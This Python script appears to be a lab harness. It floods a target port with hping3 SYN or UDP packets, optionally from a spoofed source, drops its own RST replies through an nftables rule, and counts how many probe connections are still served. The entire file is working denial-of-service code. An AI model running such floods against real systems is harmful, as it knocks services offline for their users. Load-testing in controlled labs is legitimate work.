"""Floods a port with hping3 and measures from beside it how many fair tries are still served.

``flood.py syn|udp ADDRESS PORT PACKETS_PER_S SECONDS [SPOOFED_SOURCE]`` prints ``served N of M`` for the probes sent
while the flood ran; M is 0 where nobody was served before it either: then a failing probe proves nothing. The own
kernel's resets would clean up behind a SYN flood: a filter in this network namespace holds them back.
"""

from __future__ import annotations

import contextlib
import socket
import subprocess
import sys
import time

PROBES = 12
PROBE_S = 0.4
LOOKS = 3
"""Tries before the flood, of which one must be served."""
WARM_UP_S = 1.2
SETTLE_S = 0.1
TABLE = "sl_flood"
HOLD = f"table ip {TABLE} {{\nchain out {{\ntype filter hook output priority 0;\ntcp flags & rst == rst drop;\n}}\n}}\n"
QUESTION = b"\x51\x0c\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05probe\x03lab\x00\x00\x01\x00\x01"


def tcp_served(address: str, port: int) -> bool:
    """Whether a connection comes about."""
    with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=PROBE_S):
        return True
    return False


def udp_served(address: str, port: int) -> bool:
    """Whether a DNS question is answered."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel, contextlib.suppress(OSError):
        channel.settimeout(PROBE_S)
        channel.sendto(QUESTION, (address, port))
        return bool(channel.recv(512))
    return False


def hping(kind: str, address: str, port: str, rate: int, seconds: float, source: list[str]) -> list[str]:
    """The tool's command line; it ends by itself."""
    shape = ["-S"] if kind == "syn" else ["--udp", "-d", "64"]
    spoof = ["-a", source[0]] if source else []
    count = str(int(rate * seconds))
    return ["hping3", *shape, *spoof, "-q", "-p", port, "-i", f"u{1_000_000 // rate}", "-c", count, address]


def main() -> None:
    """Flood and probe."""
    kind, address, port, rate, seconds, *source = sys.argv[1:]
    served = tcp_served if kind == "syn" else udp_served
    command = hping(kind, address, port, int(rate), float(seconds), source)
    open_before = any(served(address, int(port)) for _ in range(LOOKS))
    if kind == "syn":
        subprocess.run(["nft", "-f", "-"], input=HOLD, text=True, check=True)
    begun = time.monotonic()
    flood = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(WARM_UP_S)
        good = tries = 0
        while open_before and tries < PROBES and time.monotonic() - begun < float(seconds) - PROBE_S:
            good += served(address, int(port))
            tries += 1
            time.sleep(SETTLE_S)
        if not open_before:
            flood.wait()
        sys.stdout.write(f"served {good} of {tries}\n")
    finally:
        flood.kill()
        flood.wait()
        if kind == "syn":
            subprocess.run(["nft", "delete", "table", "ip", TABLE], check=False)


if __name__ == "__main__":
    main()
